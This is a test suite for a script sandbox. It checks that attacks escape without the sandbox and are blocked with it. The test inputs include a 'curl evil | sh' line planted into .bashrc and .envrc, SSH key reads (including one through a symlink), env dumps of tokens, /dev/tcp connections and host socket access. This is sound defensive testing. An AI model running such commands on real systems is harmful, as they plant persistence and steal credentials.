"""Each block proven from the host side, and each attack first seen to escape without corral."""

from __future__ import annotations

import os
import socket

import pytest

from tests.conftest import BASHRC, SECRET, Canary, Layout, run_script

pytestmark = pytest.mark.usefixtures("sandbox_available")

BOTH = pytest.mark.parametrize("sandboxed", [False, True], ids=["unsandboxed", "sandboxed"])


@BOTH
def test_shell_startup_file_write(layout: Layout, sandboxed: bool) -> None:
    run_script(layout, "echo 'curl evil | sh' >> ~/.bashrc", sandboxed=sandboxed)
    intact = layout.read("home/.bashrc") == BASHRC
    assert intact == sandboxed


@pytest.mark.parametrize("mode", ["standard", "permissive", "strict"])
def test_shell_startup_file_write_in_every_mode(layout: Layout, mode: str) -> None:
    run_script(layout, "echo pwned >> ~/.bashrc; echo pwned > ~/.zshrc", sandboxed=True, mode=mode)  # type: ignore[arg-type]
    assert layout.read("home/.bashrc") == BASHRC
    assert not os.path.exists(f"{layout.home}/.zshrc")


@BOTH
def test_secret_read(layout: Layout, sandboxed: bool) -> None:
    result = run_script(layout, "cat ~/.ssh/id_rsa; ls -a ~/.ssh", sandboxed=sandboxed)
    leaked = SECRET in (result.stdout or b"").decode()
    assert leaked != sandboxed


@BOTH
def test_secret_read_through_a_symlink_in_the_workspace(layout: Layout, sandboxed: bool) -> None:
    os.symlink(f"{layout.home}/.ssh/id_rsa", f"{layout.workspace}/innocent.txt")
    result = run_script(layout, "cat innocent.txt", sandboxed=sandboxed)
    assert (SECRET in (result.stdout or b"").decode()) != sandboxed


def test_symlinked_secret_directory_is_hidden_at_its_target(layout: Layout) -> None:
    keys = f"{layout.root}/keys"
    os.rename(f"{layout.home}/.ssh", keys)
    os.symlink(keys, f"{layout.home}/.ssh")
    result = run_script(layout, f"cat ~/.ssh/id_rsa; cat {keys}/id_rsa", sandboxed=True)
    assert SECRET not in (result.stdout or b"").decode()


@BOTH
def test_write_outside_the_workspace(layout: Layout, sandboxed: bool) -> None:
    run_script(layout, f"echo loot > {layout.outside}/loot; echo x > ~/new", sandboxed=sandboxed)
    created = os.path.exists(f"{layout.outside}/loot") or os.path.exists(f"{layout.home}/new")
    assert created != sandboxed


def test_workspace_write_succeeds(layout: Layout) -> None:
    result = run_script(
        layout, "echo hello > out.txt && mkdir -p a/b && echo y > a/b/c", sandboxed=True
    )
    assert result.returncode == 0, result.stderr
    assert layout.read("home/project/out.txt") == "hello\n"
    assert layout.read("home/project/a/b/c") == "y\n"


@BOTH
def test_missing_protected_file_cannot_be_created(layout: Layout, sandboxed: bool) -> None:
    # direnv would run a planted .envrc on the host the next time the user enters the directory.
    run_script(layout, "echo 'curl evil | sh' > .envrc; mkdir .corral", sandboxed=sandboxed)
    planted = os.path.exists(f"{layout.workspace}/.envrc")
    assert planted != sandboxed


def test_missing_secret_dir_cannot_be_planted_in_a_writable_home(layout: Layout) -> None:
    # ~/.aws does not exist; in permissive mode the home is writable, yet ~/.aws stays denied.
    result = run_script(
        layout,
        "mkdir -p ~/.aws && echo key > ~/.aws/credentials",
        sandboxed=True,
        mode="permissive",
    )
    assert result.returncode != 0
    assert not os.path.exists(f"{layout.home}/.aws")


def test_no_placeholder_is_left_behind(layout: Layout) -> None:
    subprocess_git_init(layout)
    before = layout.listing()
    for mode in ("strict", "standard", "permissive"):
        result = run_script(layout, "ls -a >/dev/null; true", sandboxed=True, mode=mode)
        assert result.returncode == 0, result.stderr
    assert layout.listing() == before


def subprocess_git_init(layout: Layout) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q", layout.workspace], check=True, env=layout.env)


@BOTH
@pytest.mark.parametrize("mode", ["strict", "standard", "permissive"])
def test_tcp_connection_to_the_host(layout: Layout, sandboxed: bool, mode: str) -> None:
    server = Canary()
    try:
        script = f"exec 3<>/dev/tcp/127.0.0.1/{server.port} && echo hi >&3"
        run_script(layout, script, sandboxed=sandboxed, mode=mode)  # type: ignore[arg-type]
        accepted = server.count()
    finally:
        server.close()
    assert (accepted == 0) == sandboxed


def test_local_mode_reaches_its_own_loopback(layout: Layout) -> None:
    # "local" is the sandbox's own loopback: a test server started inside is reachable inside.
    script = (
        "python3 -c \"import socket,threading;s=socket.create_server(('127.0.0.1',0));"
        "p=s.getsockname()[1];threading.Thread(target=lambda:s.accept()[0].sendall(b'pong')).start();"
        "c=socket.create_connection(('127.0.0.1',p));print(c.recv(4).decode())\""
    )
    result = run_script(layout, script, sandboxed=True)
    assert (result.stdout or b"").decode().strip() == "pong", result.stderr


@BOTH
def test_secret_environment_variables_are_scrubbed(layout: Layout, sandboxed: bool) -> None:
    result = run_script(
        layout,
        "env",
        sandboxed=sandboxed,
        env={
            "GITHUB_TOKEN": SECRET,
            "AWS_SECRET_ACCESS_KEY": SECRET,
            "MY_API_KEY": SECRET,
            "DB_PASSWORD": SECRET,
            "HARMLESS": "visible",
        },
    )
    out = (result.stdout or b"").decode()
    assert (SECRET in out) != sandboxed
    assert "HARMLESS=visible" in out


def test_strict_mode_cannot_read_home_or_write_tmp(layout: Layout) -> None:
    with open(f"{layout.home}/notes.txt", "w") as f:
        f.write(SECRET)
    result = run_script(
        layout, "cat ~/notes.txt; echo x > /tmp/x && echo wrote-tmp", sandboxed=True, mode="strict"
    )
    out = (result.stdout or b"").decode()
    assert SECRET not in out
    assert "wrote-tmp" not in out


def test_strict_mode_has_no_network_at_all(layout: Layout) -> None:
    # Not even the sandbox's own loopback: socket() itself is refused by the seccomp layer.
    script = (
        "python3 -c \"import socket;s=socket.create_server(('127.0.0.1',0));print('listening')\""
    )
    strict = run_script(layout, script, sandboxed=True, mode="strict")
    standard = run_script(layout, script, sandboxed=True, mode="standard")
    assert b"listening" not in (strict.stdout or b"")
    assert b"listening" in (standard.stdout or b""), standard.stderr


@BOTH
def test_host_unix_socket_is_unreachable(layout: Layout, sandboxed: bool) -> None:
    # A host service on a unix socket (docker.sock, an agent socket) is visible in the
    # read-only filesystem; connecting needs no write access, so only seccomp stops it.
    path = f"{layout.outside}/service.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(8)
    try:
        script = f"python3 -c \"import socket;socket.socket(socket.AF_UNIX).connect('{path}')\""
        run_script(layout, script, sandboxed=sandboxed)
        server.setblocking(False)
        try:
            server.accept()[0].close()
            reached = True
        except BlockingIOError:
            reached = False
    finally:
        server.close()
    assert reached != sandboxed
